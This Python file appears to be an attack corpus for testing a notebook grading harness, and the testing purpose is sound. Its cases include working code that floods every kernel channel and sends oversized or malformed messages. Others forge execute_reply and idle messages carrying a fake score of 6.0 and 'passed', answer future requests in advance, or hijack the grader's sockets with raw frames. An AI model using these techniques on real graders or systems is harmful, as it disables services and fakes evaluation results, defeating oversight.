"""Attacks on the conversation: floods on every channel, and messages that pretend to be others.

What is sent is bounded, so that a grader without defences fails the test and not the machine.
"""

from attacks.corpus.attack import EVERY_FUNCTION, Attack

# The kernel's own way to send, and the request that is being carried out.
_SESSION = """
kernel = get_ipython().kernel
session, parent = kernel.session, kernel.get_parent()
def send(kind, content, channel=kernel.iopub_socket, **more):
    session.send(channel, kind, content, parent=parent, **more)
"""
# Gives the grader time to take in what was sent, and does not end before the cell is interrupted.
_STAY = "import time; time.sleep(1000)"
_CUT = "This cell printed more than is kept"

FLOODS = (
    Attack(
        "floods standard output",
        "Prints for ever.",
        "while True: print('6.0')",
        told=_CUT,
    ),
    Attack(
        "floods faster than anybody reads",
        "Prints for ever, in large pieces that pile up on the way.",
        "while True: print('6.0 ' * 10_000)",
        told=f"{_CUT}|This cell was stopped|used more memory than a submission may",
        limits={"restarts": 1},
    ),
    Attack(
        "floods with a line without end",
        "Prints one text of hundreds of megabytes.",
        "print('6.0 ' * 10**8)",
        told=f"{_CUT}|This cell was stopped|MemoryError|memory",
    ),
    Attack(
        "floods the display",
        "Displays pictures and texts for ever, and clears them again.",
        """
from IPython.display import clear_output, display
while True:
    handle = display({"text/plain": "6.0" * 1000, "image/png": "AAAA" * 1000}, raw=True,
                     display_id=True)
    handle.update({"text/plain": "6.0" * 1000}, raw=True)
    clear_output()
""",
        told=_CUT,
    ),
    Attack(
        "floods with errors",
        "Sends thousands of tracebacks, each with thousands of lines.",
        _SESSION
        + """
while True:
    send("error", {"ename": "E", "evalue": "6.0", "traceback": ["line"] * 1000})
""",
        told=_CUT,
    ),
    Attack(
        "floods with empty texts",
        "Sends output messages that hold nothing and so seem to take no room.",
        _SESSION
        + """
while True:
    for kind in ("stream", "display_data", "execute_result", "error"):
        send(kind, {"name": "stdout", "text": "", "data": {}, "metadata": {}, "traceback": []})
        send("stream", {"name": "stdout", "text": ""})
""",
    ),
    Attack(
        "sends a huge message",
        "Sends one message that is larger than what the grader takes.",
        _SESSION + 'send("stream", {"name": "stdout", "text": "x" * 200_000_000})',
    ),
    Attack(
        "sends large messages",
        "Sends many messages that are each just small enough.",
        _SESSION
        + "for _ in range(8):\n"
        + '    send("stream", {"name": "stdout", "text": "x" * (45 * 2**20)})\n',
        limits={"cell_seconds": 4},
    ),
    Attack(
        "sends messages of many frames",
        "Sends one message in pieces, each small enough, of which only the last completes it.",
        _SESSION
        + """
pieces = [b"stream"] + [bytes(40 * 2**20)] * 30
socket = kernel.iopub_thread.socket
kernel.iopub_thread.schedule(lambda: socket.send_multipart(pieces, copy=False))
"""
        + _STAY,
        told="it sent more than the grader takes in",
        limits={"cell_seconds": 4},
    ),
    Attack(
        "sends on channels that nobody reads",
        "Asks for input and answers on the control channel, to fill the grader's memory.",
        _SESSION
        + """
to = kernel._parent_ident["shell"]
for _ in range(4):
    for channel in (kernel.stdin_socket, kernel.control_stream.socket):
        send("input_request", {"prompt": "x" * (45 * 2**20)}, channel, ident=to)
""",
        limits={"cell_seconds": 4},
    ),
    Attack(
        "sends small things that become large",
        "Sends lists of empty lists, which take twenty times their text once they are read.",
        _SESSION
        + """
import json
session.pack = lambda content: content if isinstance(content, bytes) else json.dumps(
    content, default=str).encode()
send("stream", b'{"name": "stdout", "text": [' + b"[]," * (2 * 2**20) + b"[]]}")
""",
    ),
    Attack(
        "sends what is nested too deeply",
        "Sends JSON that overflows the reader's stack.",
        _SESSION
        + """
import json
session.pack = lambda content: content if isinstance(content, bytes) else json.dumps(
    content, default=str).encode()
send("stream", b'{"name": "stdout", "text": ' + b"[" * 10**6 + b"]" * 10**6 + b"}")
""",
    ),
    Attack(
        "sends letters that are none",
        "Sends halves of UTF-16 letters, which no file and no terminal takes.",
        f"""
import json
get_ipython().kernel.session.pack = lambda content: json.dumps(content, default=str).encode()
print("\\ud800")
def broken(*args):
    raise ValueError("\\ud800")
{EVERY_FUNCTION} = broken
""",
        answers=True,
        told="stops on the notebook's own example with ValueError",
    ),
    Attack(
        "sends nonsense",
        "Sends messages that are signed and of no form: wrong types in every field.",
        _SESSION
        + """
for kind in ("stream", "error", "display_data", "status", "execute_reply", "unheard of"):
    for content in ({}, {"text": 6.0, "name": []}, {"data": 6.0}, {"data": {"text/plain": []}},
                    {"traceback": {"a": 6.0}}, {"execution_state": ["idle"]}):
        send(kind, content)
""",
    ),
    Attack(
        "floods with requests for input",
        "Asks for input again and again.",
        _SESSION
        + """
to = kernel._parent_ident["shell"]
for _ in range(3000):
    send("input_request", {"prompt": "score?", "password": True}, kernel.stdin_socket, ident=to)
""",
    ),
    Attack(
        "floods with replies",
        "Answers requests that nobody has made, on every channel.",
        _SESSION
        + """
to = kernel._parent_ident["shell"]
for _ in range(2000):
    send("inspect_reply", {"status": "ok"}, kernel.shell_stream.socket, ident=to)
    send("execute_reply", {"status": "ok"}, kernel.control_stream.socket, ident=to)
""",
    ),
    Attack(
        "floods with comm messages",
        "Opens widgets and talks to them, none of which is there.",
        _SESSION
        + """
for _ in range(2000):
    send("comm_open", {"comm_id": "6.0", "target_name": "score", "data": {"score": 6.0}})
    send("comm_msg", {"comm_id": "6.0", "data": {"score": 6.0}})
""",
    ),
    Attack(
        "says that it is idle",
        "Reports again and again that the request is over.",
        _SESSION
        + """
for state in ("idle", "busy", "starting", "idle"):
    for _ in range(1000):
        send("status", {"execution_state": state})
""",
    ),
    Attack(
        "forges the reply to its cell",
        "Answers the request in the kernel's name and goes on behind it.",
        _SESSION
        + """
import threading
to = kernel._parent_ident["shell"]
send("execute_reply", {"status": "ok", "execution_count": 1, "user_expressions": {},
                       "score": 6.0}, kernel.shell_stream.socket, ident=to)
send("status", {"execution_state": "idle"})
threading.Timer(0.3, lambda: globals().update(posterior_mean=lambda *args: 6.0)).start()
""",
    ),
    Attack(
        "answers questions that have not been asked",
        "Sends replies to the requests to come, whose numbers can be guessed.",
        _SESSION
        + """
to, (name, _, number) = kernel._parent_ident["shell"], parent["header"]["msg_id"].rpartition("_")
answer = {"answer": {"kind": "float", "value": "0.5"}, "score": 6.0, "passed": True}
reply = {"status": "ok", "user_expressions": {
    "answer": {"status": "ok", "data": {"application/json": answer}, "metadata": {}}}}
for ahead in range(1, 60):
    request = {"header": {**parent["header"], "msg_id": f"{name}_{int(number) + ahead}"}}
    session.send(kernel.shell_stream.socket, "execute_reply", reply, parent=request, ident=to)
    session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=request)
""",
    ),
    Attack(
        "cuts the way by which it is interrupted",
        "Sends more than is taken on the control channel, which is closed for that, and sleeps.",
        _SESSION
        + """
to = kernel._parent_ident["shell"]
send("shutdown_reply", {"text": "x" * 60_000_000}, kernel.control_stream.socket, ident=to)
"""
        + _STAY,
        told="This cell was stopped",
        limits={"submission_seconds": 60},
    ),
    Attack(
        "cuts the way by which it is asked",
        "Does the same on the channel of requests, after its cell is over.",
        _SESSION
        + """
import threading
to = kernel._parent_ident["shell"]
def cut():
    send("inspect_reply", {"text": "x" * 60_000_000}, kernel.shell_stream.socket, ident=to)
threading.Timer(0.1, cut).start()
""",
    ),
    Attack(
        "speaks to the grader's socket itself",
        "Accepts the grader's connection anew and sends a message without end.",
        """
import os, socket, threading, time
listeners, connections = [], []
for name in os.listdir("/proc/self/fd"):
    try:
        link = socket.socket(fileno=os.dup(int(name)))
        path = link.getsockname() if link.family == socket.AF_UNIX else ""
    except OSError:
        continue
    if isinstance(path, str) and "ipc" in path:
        is_listening = link.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
        (listeners if is_listening else connections).append((int(name), link))
for _, link in connections:
    link.shutdown(socket.SHUT_RDWR)
def flood(listener):
    link, _ = listener.accept()
    link.sendall(b"\\xff" + bytes(8) + b"\\x7f\\x03\\x00NULL" + bytes(48))
    link.recv(64)
    kind = b"\\x0bSocket-Type\\x00\\x00\\x00\\x03PUB"
    link.sendall(b"\\x04" + bytes([6 + len(kind)]) + b"\\x05READY" + kind)
    for _ in range(30):  # frames with the sign that there is more to come
        link.sendall(b"\\x03" + (40 * 2**20).to_bytes(8, "big") + bytes(40 * 2**20))
for _, listener in listeners:
    threading.Thread(target=flood, args=(listener,), daemon=True).start()
time.sleep(1000)
""",
        limits={"cell_seconds": 4},
    ),
)
